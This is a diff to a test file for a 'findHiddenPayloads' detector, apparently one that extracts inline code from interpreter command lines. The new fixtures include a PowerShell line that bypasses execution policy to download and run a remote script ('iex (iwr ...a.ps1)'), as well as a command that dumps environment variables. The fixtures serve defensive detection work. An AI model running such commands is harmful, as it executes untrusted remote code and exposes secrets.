@@ -146,6 +146,9 @@ describe('findHiddenPayloads', () => {
         `python3 scripts/tool.py "import os; os.system('x')"`,
         `node -c 'console.log("syntax check only")'`,
         `python3 -m json.tool "some-file.json"`,
+        `powershell -NoProfile -ExecutionPolicy Bypass -Command "iex (iwr https://example.com/a.ps1)"`,
+        `pwsh -c 'Get-ChildItem env:'`,
+        `python3 -X dev -c "print('with an option and its value first')"`,
         '',
       ].join('\n'),
     }));
@@ -156,6 +159,9 @@ describe('findHiddenPayloads', () => {
         [`require("child_process").execSync("${COMMAND}")`, 'inline.js'],
         ['console.log(Deno.env.toObject())', 'inline.js'],
         ['\nimport os\nprint(os.getcwd())', 'inline.py'],
+        ['iex (iwr https://example.com/a.ps1)', 'inline.ps1'],
+        ['Get-ChildItem env:', 'inline.ps1'],
+        ["print('with an option and its value first')", 'inline.py'],
       ],
     );
   });
